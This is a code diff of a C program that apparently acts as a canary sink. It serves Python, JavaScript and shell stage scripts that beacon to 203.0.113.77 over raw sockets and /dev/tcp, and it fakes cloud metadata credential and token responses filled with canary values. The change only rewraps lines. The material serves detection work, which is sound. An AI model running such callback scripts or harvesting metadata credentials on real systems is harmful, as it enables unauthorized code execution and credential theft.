@@ -13,8 +13,10 @@ static const struct str stage_python = SC(
 	"import socket\ntry:\n    s = socket.create_connection(('203.0.113.77', 7), 3)\n"
 	"    s.send(b'ran')\n    s.close()\nexcept Exception:\n    pass\n");
 static const struct str stage_js = SC(
-	"try { require('net').connect(7, '203.0.113.77').on('error', function () {}).end('ran'); }\n"
-	"catch (e) { try { process.getBuiltinModule('net').connect(7, '203.0.113.77').end('ran'); }\n"
+	"try { require('net').connect(7, '203.0.113.77').on('error', function () {}).end('ran'); "
+	"}\n"
+	"catch (e) { try { process.getBuiltinModule('net').connect(7, '203.0.113.77').end('ran'); "
+	"}\n"
 	"catch (e) {} }\n");
 static const struct str stage_sh = SC(
 	"#!/bin/sh\n(exec 3<>/dev/tcp/203.0.113.77/7) 2>/dev/null ||\n"
@@ -39,7 +41,8 @@ static struct str stage_for(struct str agent, struct str target)
 static void role_credentials(const struct sink *s, struct buf *b)
 {
 	buf_addf(b,
-		 "{\"Code\":\"Success\",\"LastUpdated\":\"2026-01-01T00:00:00Z\",\"Type\":\"AWS-HMAC\","
+		 "{\"Code\":\"Success\",\"LastUpdated\":\"2026-01-01T00:00:00Z\",\"Type\":\"AWS-"
+		 "HMAC\","
 		 "\"AccessKeyId\":\"%.*s\",\"SecretAccessKey\":\"%.*s\",\"Token\":\"%.*s\","
 		 "\"Expiration\":\"2036-01-01T00:00:00Z\"}",
 		 FMT(canary_text(&s->canaries, CANARY_AWS_ID)),
@@ -59,8 +62,10 @@ static void metadata(const struct sink *s, struct str target, struct buf *b)
 	else if (str_has_prefix(target, roles))
 		buf_add(b, S("app-role"));
 	else if (contains(target, "/token") || contains(target, "oauth2"))
-		buf_addf(b, "{\"access_token\":\"%.*s\",\"expires_in\":3599,\"token_type\":\"Bearer\"}",
-			 FMT(canary_text(&s->canaries, CANARY_IMDS)));
+		buf_addf(
+			b,
+			"{\"access_token\":\"%.*s\",\"expires_in\":3599,\"token_type\":\"Bearer\"}",
+			FMT(canary_text(&s->canaries, CANARY_IMDS)));
 	else if (str_has_prefix(target, S("/v2/credentials")))
 		role_credentials(s, b);
 	else if (contains(target, "instance-id"))
